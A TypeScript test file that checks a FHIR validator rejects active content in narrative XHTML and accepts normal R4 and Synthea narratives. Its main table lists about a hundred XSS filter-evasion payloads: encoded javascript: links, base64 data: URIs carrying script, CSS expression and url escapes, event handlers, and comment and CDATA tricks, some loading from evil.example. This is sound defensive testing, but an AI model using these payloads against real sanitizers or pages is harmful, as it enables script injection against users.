// checkXhtml against the known ways of slipping active content past a narrative filter:
// every shape is refused under txt-1, what the R4 examples and Synthea carry is accepted,
// and the FhirValidator reports a refusal as an error at Narrative.div.

import * as path from 'node:path';
import { checkXhtml } from '../../src/fhir/validate/narrative';
import { FhirValidator } from '../../src/fhir/validate/validator';
import { EXAMPLES, jsonFiles, readJson, SYNTHEA } from './corpus';

const NS = 'http://www.w3.org/1999/xhtml';
const div = (inner: string): string => `<div xmlns="${NS}">${inner}</div>`;
const SVG_B64 = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>').toString('base64');
const HTML_B64 = Buffer.from('<script>alert(1)</script>').toString('base64');

/** [shape, narrative]: each must be refused. */
const EVASIONS: [string, string][] = [
  // URL schemes, spelled every way a browser still reads as javascript: and friends
  ['javascript: link', div('<a href="javascript:alert(1)">x</a>')],
  ['mixed case scheme', div('<a href="JaVaScRiPt:alert(1)">x</a>')],
  ['leading space', div('<a href=" javascript:alert(1)">x</a>')],
  ['leading tab and newline', div('<a href="\t\njavascript:alert(1)">x</a>')],
  ['leading raw control character', div('<a href="\u0001javascript:alert(1)">x</a>')],
  ['leading &#x01;', div('<a href="&#x01;javascript:alert(1)">x</a>')],
  ['leading &#9;', div('<a href="&#9;javascript:alert(1)">x</a>')],
  ['leading &#x20;', div('<a href="&#x20;javascript:alert(1)">x</a>')],
  ['decimal reference', div('<a href="&#106;avascript:alert(1)">x</a>')],
  ['hex reference', div('<a href="&#x6A;avascript:alert(1)">x</a>')],
  ['decimal with leading zeros', div('<a href="&#0000106;avascript:alert(1)">x</a>')],
  ['hex with leading zeros', div('<a href="&#x000006a;avascript:alert(1)">x</a>')],
  ['very many leading zeros', div('<a href="&#x00000000000000006a;avascript:alert(1)">x</a>')],
  ['decimal without ;', div('<a href="&#106avascript:alert(1)">x</a>')],
  ['hex without ;', div('<a href="&#x6Aavascript:alert(1)">x</a>')],
  ['reference in the middle', div('<a href="jav&#x61;script:alert(1)">x</a>')],
  ['&#x09; inside the scheme', div('<a href="java&#x09;script:alert(1)">x</a>')],
  ['&#x0A; inside the scheme', div('<a href="java&#x0A;script:alert(1)">x</a>')],
  ['&#13; inside the scheme', div('<a href="java&#13;script:alert(1)">x</a>')],
  ['literal tab inside the scheme', div('<a href="java\tscript:alert(1)">x</a>')],
  ['literal newline inside the scheme', div('<a href="java\nscript:alert(1)">x</a>')],
  ['&Tab; named reference', div('<a href="java&Tab;script:alert(1)">x</a>')],
  ['&NewLine; named reference', div('<a href="java&NewLine;script:alert(1)">x</a>')],
  ['&colon; named reference', div('<a href="javascript&colon;alert(1)">x</a>')],
  ['&#58; colon', div('<a href="javascript&#58;alert(1)">x</a>')],
  ['&#x3A; colon and &#x09;', div('<a href="java&#x09;script&#x3A;alert(1)">x</a>')],
  ['zero-width space in the scheme', div('<a href="java\u200bscript:alert(1)">x</a>')],
  ['raw NUL', div('<a href="\u0000javascript:alert(1)">x</a>')],
  ['&#0;', div('<a href="&#0;javascript:alert(1)">x</a>')],
  ['reference beyond Unicode', div('<a href="&#x110000;">x</a>')],
  ['reference to a surrogate', div('<a href="&#xD800;">x</a>')],
  ['reference to a C1 control (windows-1252 in HTML)', div('<a href="&#x80;">x</a>')],
  ['vbscript:', div('<a href="vbscript:msgbox(1)">x</a>')],
  ['livescript:', div('<a href="livescript:alert(1)">x</a>')],
  ['data: text/html link', div(`<a href="data:text/html;base64,${HTML_B64}">x</a>`)],
  ['data: link, upper case', div('<a href="DATA:text/html,<script>">x</a>'.replace('<script>', '%3Cscript%3E'))],
  ['file: link', div('<a href="file:///etc/passwd">x</a>')],
  ['javascript: in blockquote/@cite', div('<blockquote cite="javascript:alert(1)">x</blockquote>')],
  ['javascript: in img/@longdesc', div('<img src="#a" longdesc="javascript:alert(1)"/>')],
  // images
  ['javascript: in img/@src', div('<img src="javascript:alert(1)"/>')],
  ['encoded javascript: in img/@src', div('<img src="&#106;avascript:alert(1)"/>')],
  ['external image', div('<img src="http://evil.example/x.png"/>')],
  ['protocol-relative image', div('<img src="//evil.example/x.png"/>')],
  ['relative image (loads from the server)', div('<img src="x.png"/>')],
  ['SVG data: image', div(`<img src="data:image/svg+xml;base64,${SVG_B64}"/>`)],
  ['text/html data: image', div(`<img src="data:text/html;base64,${HTML_B64}"/>`)],
  // styles
  ['style url(', div('<p style="background:url(http://evil.example/x)">x</p>')],
  ['style url( with a space', div('<p style="background:url (http://evil.example/x)">x</p>')],
  ['style &#117;rl(', div('<p style="background:&#117;rl(http://evil.example/x)">x</p>')],
  ['style url&#40;', div('<p style="background:url&#40;http://evil.example/x&#41;">x</p>')],
  ['style \\75 rl(', div('<p style="background:\\75 rl(http://evil.example/x)">x</p>')],
  ['style \\000075rl( unicode escape', div('<p style="background:\\000075rl(http://evil.example/x)">x</p>')],
  ['style expression(', div('<p style="width:expression(alert(1))">x</p>')],
  ['style EXPRESSION( upper case', div('<p style="width:EXPRESSION(alert(1))">x</p>')],
  ['style \\65 xpression(', div('<p style="width:\\65 xpression(alert(1))">x</p>')],
  ['style expr/**/ession(', div('<p style="width:expr/**/ession(alert(1))">x</p>')],
  ['style comment alone', div('<p style="color:red;/* */background:red">x</p>')],
  ['style fullwidth expression', div('<p style="width:\uff45\uff58\uff50\uff52\uff45\uff53\uff53\uff49\uff4f\uff4e(alert(1))">x</p>')],
  ['style @import', div('<p style="@import \'http://evil.example/x.css\';">x</p>')],
  ['style -moz-binding', div('<p style="-moz-binding:url(http://evil.example/x.xml#xss)">x</p>')],
  ['style -moz-binding without url', div('<p style="color:red; -moz-binding: x">x</p>')],
  ['style behavior:', div('<p style="behavior: url(x.htc)">x</p>')],
  ['style behavior: without url', div('<p style="behavior:x.htc">x</p>')],
  ['style image-set(', div('<p style="background-image:image-set(\'x.png\' 1x)">x</p>')],
  ['style javascript: value', div('<p style="background:javascript:alert(1)">x</p>')],
  ['style with a raw control character', div('<p style="color:red\u0001">x</p>')],
  // elements and attributes
  ['event handler onerror', div('<img src="#a" onerror="alert(1)"/>')],
  ['event handler onclick on p', div('<p onclick="alert(1)">x</p>')],
  ['event handler, upper case', div('<p ONMOUSEOVER="alert(1)">x</p>')],
  ['<script>', div('<script>alert(1)</script>')],
  ['<SCRIPT>', div('<SCRIPT>alert(1)</SCRIPT>')],
  ['<svg>', div('<svg><script>alert(1)</script></svg>')],
  ['<svg onload>', div('<svg onload="alert(1)"/>')],
  ['<math>', div('<math><mtext><img src="x" onerror="alert(1)"/></mtext></math>')],
  ['<iframe>', div('<iframe src="http://evil.example"></iframe>')],
  ['<object>', div('<object data="x.swf"></object>')],
  ['<embed>', div('<embed src="x.swf"/>')],
  ['<style>', div('<style>@import "http://evil.example/x.css";</style>')],
  ['<link>', div('<link rel="stylesheet" href="http://evil.example/x.css"/>')],
  ['<base>', div('<base href="http://evil.example/"/>')],
  ['<form>', div('<form action="javascript:alert(1)"><input/></form>')],
  ['prefixed element', div('<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>')],
  ['xlink:href', div('<a xlink:href="javascript:alert(1)">x</a>')],
  ['switching namespace to SVG', div('<span xmlns="http://www.w3.org/2000/svg"><a href="#x">x</a></span>')],
  ['unquoted attribute', div('<a href=javascript:alert(1)>x</a>')],
  ['attribute without a value', div('<a href>x</a>')],
  ['repeated attribute', div('<a href="#x" href="javascript:alert(1)">x</a>')],
  ['attributes glued together', div('<a title="x"href="#a">x</a>')],
  ["'<' in an attribute value", div('<a title="<img src=x onerror=alert(1)>">x</a>')],
  // markup where XML and HTML readers disagree
  ['CDATA section', div('<p><![CDATA[<img src=x onerror=alert(1)>]]></p>')],
  ['CDATA section ending early in HTML', div('<p><![CDATA[ ><img src=x onerror=alert(1)> ]]></p>')],
  ['processing instruction', div('<?xml-stylesheet href="http://evil.example/x.xsl"?><p>x</p>')],
  ['DOCTYPE with an entity', `<!DOCTYPE div [<!ENTITY x "javascript:">]>${div('<a href="&x;">x</a>')}`],
  ["comment '<!-->' (empty in HTML)", div('<!--><img src=x onerror=alert(1)>-->')],
  ["comment '<!--->'", div('<!---><img src=x onerror=alert(1)>-->')],
  ["comment ending '--!>' in HTML", div('<!-- --!><img src=x onerror=alert(1)> -->')],
  ['a stray < in text', div('<p>1 < 2 <img src=x onerror=alert(1)></p>')],
  ['a second root after the div', `${div('<p>x</p>')}<img src="x" onerror="alert(1)"/>`],
  ['junk in an end tag', div('<p>x</p onclick="alert(1)">')],
  ['unterminated start tag', `<div xmlns="${NS}"><p>x</p><a href="#x"`],
];

describe('checkXhtml refuses filter-evasion shapes (txt-1)', () => {
  test('the table has at least 40 shapes', () => {
    expect(EVASIONS.length).toBeGreaterThanOrEqual(40);
  });

  test.each(EVASIONS)('%s', (_shape, xhtml) => {
    const problem = checkXhtml(xhtml);
    expect(problem).toBeDefined();
    expect(problem?.key).toBe('txt-1');
    expect(problem?.diagnostics.length).toBeGreaterThan(0);
  });
});

describe('checkXhtml accepts what FHIR allows', () => {
  const ok: [string, string][] = [
    ['relative link', div('<p><a href="Patient/123">Ann</a></p>')],
    ['fragment link', div('<p><a href="#obs1">first</a></p>')],
    ['http and https links', div('<p><a href="http://hl7.org/fhir">a</a> <a href="HTTPS://example.org/x?y=1&amp;z=2#f">b</a></p>')],
    ['mailto, tel and urn links', div('<p><a href="mailto:fhir@lists.hl7.org">m</a><a href="tel:+1-555-0100">t</a><a href="urn:uuid:2b8bd0aa-3c6b-4c3a-9a57-2c6e0b4f6a11">u</a></p>')],
    ['relative link with a colon after a slash', div('<p><a href="v3/x:y/vs.html">a</a></p>')],
    ['contained image', div('<p>x<img src="#photo" alt="photo"/></p>')],
    ['inline PNG', div('<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"/></p>')],
    ['colour styles', div('<p style="color: gray; border-top-style: none; background-color: rgb(1, 2, 3)">x</p>')],
    ['references of all kinds in text', div('<p>&lt;script&gt; &amp; &quot;q&quot; &apos; &#160; &#x263A; caf\u00e9 \ud83d\ude00</p>')],
    ['an ordinary comment', div('<!-- generated --><p>x</p>')],
    ['empty attribute value and single quotes', div("<p class='' title='a &quot;b&quot;'>x</p>")],
    ['whitespace around the root and inside tags', `\n  <div xmlns="${NS}" xml:lang="en" >\n<p >x</p >\n<br />\n</div>\n`],
    ['a table', div('<table><thead><tr><th colspan="2">h</th></tr></thead><tbody><tr><td>a</td><td>b</td></tr></tbody></table>')],
    ['an image alone is visible content', div('<img src="#a"/>')],
    // A browser decodes once: the link is the relative URL '&' with fragment '#106;avascript:...'.
    ['a double-encoded reference stays text', div('<a href="&amp;#106;avascript:alert(1)">x</a>')],
  ];

  test.each(ok)('%s', (_what, xhtml) => {
    expect(checkXhtml(xhtml)).toBeUndefined();
  });

  test('a long style is judged in one pass', () => {
    // A search for `name(` from every position of 200 000 letters would not finish within
    // the test's timeout; reading back from each '(' does.
    const long = 'a'.repeat(200_000);
    expect(checkXhtml(div(`<p style="${long} rgb(1,2,3)">x</p>`))).toBeUndefined();
    expect(checkXhtml(div(`<p style="${long} url(x)">x</p>`))?.diagnostics).toMatch(/'url\('/);
    expect(checkXhtml(div(`<p style="color:${long}(x)">x</p>`))?.key).toBe('txt-1');
  });

  test('no visible content is txt-2', () => {
    expect(checkXhtml(div('  <p> </p>'))).toMatchObject({ key: 'txt-2' });
  });
});

/** Every Narrative.div string inside a JSON value. */
function narratives(v: unknown, out: string[] = []): string[] {
  if (Array.isArray(v)) for (const x of v) narratives(x, out);
  else if (v !== null && typeof v === 'object') {
    for (const [k, x] of Object.entries(v)) {
      if (k === 'div' && typeof x === 'string') out.push(x);
      else narratives(x, out);
    }
  }
  return out;
}

describe('no false rejection on the corpora', () => {
  test.each([
    ['R4 examples', EXAMPLES],
    ['Synthea bundles', SYNTHEA],
  ])('every narrative in the %s is accepted', (_name, dir) => {
    const divs = jsonFiles(dir).flatMap((f) => narratives(readJson(path.join(dir, f))));
    const refused = divs.map((d) => [d.slice(0, 120), checkXhtml(d)]).filter(([, p]) => p !== undefined);
    expect(refused).toEqual([]);
  });

  test('the corpora carry narratives with links and styles', () => {
    const divs = [EXAMPLES, SYNTHEA].flatMap((dir) => jsonFiles(dir).flatMap((f) => narratives(readJson(path.join(dir, f)))));
    expect(divs.length).toBeGreaterThan(600);
    expect(divs.filter((d) => d.includes(' href="')).length).toBeGreaterThan(30);
    expect(divs.filter((d) => d.includes(' style="')).length).toBeGreaterThan(10);
  });
});

describe('through the validator', () => {
  const validator = new FhirValidator();
  test.each([
    ['an encoded javascript: link', div('<a href="&#106;avascript:alert(1)">x</a>')],
    ['a style escape', div('<p style="background:\\75 rl(x)">x</p>')],
  ])('%s is an invariant error at Patient.text.div', (_what, xhtml) => {
    const issues = validator.validateResource({ resourceType: 'Patient', text: { status: 'generated', div: xhtml } });
    const errors = issues.filter((i) => i.severity === 'error');
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ severity: 'error', code: 'invariant', expression: ['Patient.text.div'] });
    expect(errors[0].diagnostics).toMatch(/^txt-1: /);
  });
});
